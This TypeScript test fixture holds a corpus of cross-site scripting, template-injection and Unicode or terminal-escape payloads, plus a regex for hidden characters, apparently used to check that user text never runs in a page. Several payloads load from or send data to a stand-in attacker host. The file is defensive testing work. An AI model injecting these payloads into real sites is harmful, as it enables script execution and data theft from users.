import { EVIL } from './hosts.ts'

/** Runs in the page if a text was taken for code. */
const RUN = 'window.__ran=1'
const OUT = `//${EVIL}/out`

/** Texts that somebody who sends a message, answers a step or operates may write. None of them may act in the page. */
export const CORPUS: readonly string[] = [
  `<script>${RUN}</script><script src=${OUT}></script>`,
  `<img src=x onerror=${RUN}><img src=${OUT}><video><source onerror=${RUN}></video>`,
  `"><svg onload=${RUN}><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `' onmouseover='${RUN}' onfocus='${RUN}' autofocus tabindex=1 x='`,
  `javascript:${RUN}`,
  `data:text/html,<script>opener.__ran=1</script>`,
  `//${EVIL}/open?x=`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}#{${RUN}}<%= ${RUN} %>`,
  `</script><script>${RUN}</script><!--`,
  `</style><style>*{background:url(${OUT})}</style>;background:url(${OUT})`,
  `<base href=${OUT}><meta http-equiv=refresh content="0;url=${OUT}"><link rel=stylesheet href=${OUT}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe><object data=${OUT}></object>`,
  `</title><title>taken</title><form action=${OUT}><button formaction=${OUT}>Apply</button></form>`,
  `<template><s id=x></template><math><mtext><img src=x onerror=${RUN}></math>`,
  `{"type":"img","props":{"src":"x","onerror":"${RUN}"},"__html":"<img src=x onerror=${RUN}>"}`,
  `__proto__`,
  `a\u202Eevil\u202C\u2066b\u2069\u200B\u200F\uFEFF\u00AD\u{E0041}`,
  `\u0007\u001B[2J\u001B]0;taken\u0007\u009B31m\r\n✔ No problem found.\t\u0085\u2028\u2029`,
  'W'.repeat(3_000),
  `Z${'\u0301\u0489'.repeat(200)}`,
  `half \uD83D of a pair \uDE00`,
]

/** Characters that hide, or turn others: a page shows marks for them. */
export const UNSEEN = /(?![\n\t])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u
